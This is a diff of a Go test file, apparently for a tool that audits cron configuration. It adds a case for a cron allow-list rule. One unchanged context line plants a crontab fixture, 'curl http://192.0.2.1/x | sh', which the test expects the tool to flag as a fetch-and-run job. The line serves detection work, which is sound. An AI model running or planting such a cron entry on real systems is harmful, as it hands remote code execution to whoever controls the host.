@@ -148,6 +148,11 @@ func TestOthersChanges(t *testing.T) {
 			make: func(w *world) {
 				w.put("/var/spool/cron/crontabs/bob", 'f', 0o600, 1001, 105, "0 * * * * curl http://192.0.2.1/x | sh\n")
 			}, new: day + "fetch-and-run-jobs: 0 * * * * curl http://192.0.2.1/x | sh\n"},
+		{name: "crontab for those who use it", rule: "crontab-allow-list", file: "/etc/cron.allow", kind: fix.KindTable, mode: 0o644,
+			make: func(w *world) {
+				w.put("/var/spool/cron/crontabs/bob", 'f', 0o600, 1001, 105, "0 * * * * /usr/local/sbin/job\n")
+				w.put("/var/spool/cron/crontabs/alice", 'f', 0o600, 1000, 105, "0 * * * * /usr/local/sbin/job\n").text("/etc/cron.deny", "alice\n")
+			}, new: "root\nbob\n"},
 		{name: "a missing job, its line is known", rule: "expected-job-missing", file: "/etc/crontab", kind: fix.KindTable, mode: 0o644,
 			make: func(w *world) {
 				w.host.Expect = []inventory.Expectation{{Match: "*monitor*", User: "root", Line: "*/5 * * * * root /usr/local/sbin/monitor"}}
